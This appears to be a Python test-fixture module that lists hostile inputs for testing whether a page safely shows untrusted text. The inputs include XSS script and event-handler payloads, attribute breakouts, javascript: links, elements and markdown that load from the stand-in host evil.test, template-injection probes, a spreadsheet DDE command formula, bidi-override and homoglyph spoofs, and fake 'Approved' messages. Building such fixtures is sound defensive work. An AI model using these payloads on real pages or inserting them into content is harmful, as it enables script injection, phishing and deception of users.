"""Texts by which somebody would get code to run, or lie, on a page that shows them.

They are what a model, a service or a stranger may put into arguments, names and errors. Each that
is code would set `window.pwned`, ask for something from elsewhere, or leave an element behind.
"""

from collections.abc import Sequence

RUN = "window.pwned=1"

SCRIPTS: Sequence[str] = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script type='text/javascript'>{RUN}</script>",
    "<script src=//evil.test/x.js></script>",
    "<script src=data:text/javascript,window.pwned=1></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    f"<!--<script>{RUN}</script>-->",
)

_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onfocus"),
    ("iframe srcdoc=x", "onload"),
    ("iframe src=about:blank", "onload"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("div style=animation-name:x", "onanimationstart"),
    ("p tabindex=0 autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("math><mtext", "onmouseover"),
    ("a autofocus tabindex=1", "onfocusin"),
    ("x contenteditable autofocus", "onfocus"),
)
HANDLERS: Sequence[str] = tuple(f"<{tag} {handler}={RUN}>" for tag, handler in _HANDLERS)

ATTRIBUTES: Sequence[str] = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'"/><svg onload={RUN}>',
    f"` onerror={RUN} `",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    'x" style="background:url(//evil.test/x)" y="',
    f'" formaction="javascript:{RUN}',
    '" hx-get="//evil.test/x" hx-trigger="load',
    f'" hx-on:load="{RUN}',
    '" sse-connect="//evil.test/events',
    f'" data-hx-on::after-init="{RUN}',
)

LINKS: Sequence[str] = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f"<a href=javascript:{RUN}>press</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>press</a>",
    "<a href=//evil.test/>press</a>",
    "<a href=http://evil.test target=_blank>Approve</a>",
    "//evil.test/%2e%2e/",
    "https://evil.test@127.0.0.1/",
)

ELEMENTS: Sequence[str] = (
    "<iframe src=//evil.test></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<form action=//evil.test><button>Approve</button></form>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.test/x.css'</style>",
    "<style>body{background:url(//evil.test/x)}</style>",
    "<div style=position:fixed;inset:0;background:red>Approved</div>",
    "<h1>Nothing waits for you</h1>",
    "<input type=hidden name=csrf value=x>",
    "<input name=fingerprint value=forged>",
    "<button formaction=//evil.test>Decline</button>",
    "<object data=//evil.test/x></object>",
    "<embed src=//evil.test/x>",
    "<plaintext>",
    "<xmp>",
    "<!-- ",
    "<![CDATA[",
    "</main></body></html>",
    "</form><form action=//evil.test>",
    "</td></tr></table>",
    "<p hidden>",
    "<dialog open>Approved</dialog>",
    "<img src=//evil.test/pixel.gif>",
    "<portal src=//evil.test>",
    "<isindex action=//evil.test>",
)

TEMPLATES: Sequence[str] = (
    "{{ 7*7 }}",
    "{% for x in [].__class__.__mro__ %}{% endfor %}",
    "{{ config }}",
    "{{ ''.__class__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "%s%s%s%n",
    "{0.__class__}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#x3C;script&#x3E;window.pwned=1&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
)

MARKDOWN: Sequence[str] = (
    f"[press](javascript:{RUN})",
    "![x](//evil.test/pixel.gif)",
    "[Approve](http://evil.test)",
    f"<javascript:{RUN}>",
    "**approved** by _ana_",
    "# Nothing waits for you",
    "```html\n<script>window.pwned=1</script>\n```",
    "[x]: http://evil.test",
    "| a | b |\n|---|---|",
    "> the person has agreed already",
    "~~declined~~",
    "- [x] approved",
)

TERMINALS: Sequence[str] = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.test\x1b\\press\x1b]8;;\x1b\\",
    "\x1b[8mhidden\x1b[28m",
    "\x9b31mred",
    "before\rafter",
    "back\x08\x08\x08\x08gone",
    "bell\x07",
    "form\x0cfeed",
    "tab\x0bdown",
    "del\x7f",
    "start\x01of",
    "\x1b[1A\x1b[2Koverwritten",
)

BIDI: Sequence[str] = (
    "pay \u202e001 \u202cto Eve",
    "invoice\u202egpj.exe",
    "\u202dleft\u202c",
    "\u202aembedded\u202c",
    "\u202bembedded\u202c",
    "\u2066isolated\u2069",
    "\u2067isolated\u2069",
    "\u2068isolated\u2069",
    "\u200emark",
    "\u200fmark",
    "\u061cmark",
    "a\u2069\u2067b",
)

UNSEEN: Sequence[str] = (
    "ad\u200bmin",
    "ad\u200cmin",
    "ad\u200dmin",
    "ad\u2060min",
    "ad\ufeffmin",
    "ad\u00admin",
    "ad\u034fmin",
    "ad\u180emin",
    "ad\u3164min",
    "ad\u115fmin",
    "ad\ufe0fmin",
    "1\u00a0000",
    "1\u2009000",
    "line\u2028separated",
    "par\u2029agraph",
    "tag\U000e0041\U000e0042",
    "private\ue000use",
    "new\x85line",
)

ALIKE: Sequence[str] = (
    "p\u0430ypal",
    "\u0430dmin",
    "g\u03bfogle",
    "\uff21dmin",
    "adm\u0456n",
    "o\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307piled",
    "M\u0430rta",
    "\u13aana",
)

FORMULAS: Sequence[str] = (
    "=1+1",
    '=HYPERLINK("http://evil.test","press")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
)

LONG: Sequence[str] = (
    "x" * 5_000,
    "long words " * 400,
    "\n" * 200 + "below",
    "&" * 500,
    "<b>" * 300,
)

PAYLOADS: Sequence[str] = (
    *SCRIPTS,
    *HANDLERS,
    *ATTRIBUTES,
    *LINKS,
    *ELEMENTS,
    *TEMPLATES,
    *MARKDOWN,
    *TERMINALS,
    *BIDI,
    *UNSEEN,
    *ALIKE,
    *FORMULAS,
    *LONG,
)
"""All of them, each once."""

HIDDEN = frozenset(
    character
    for text in (*TERMINALS, *BIDI, *UNSEEN)
    for character in text
    if not character.isascii() or character < " " or character == "\x7f"
) - {"\n", "\t", "\u00a0"}
"""Characters of these that must never stand on a page as they are."""
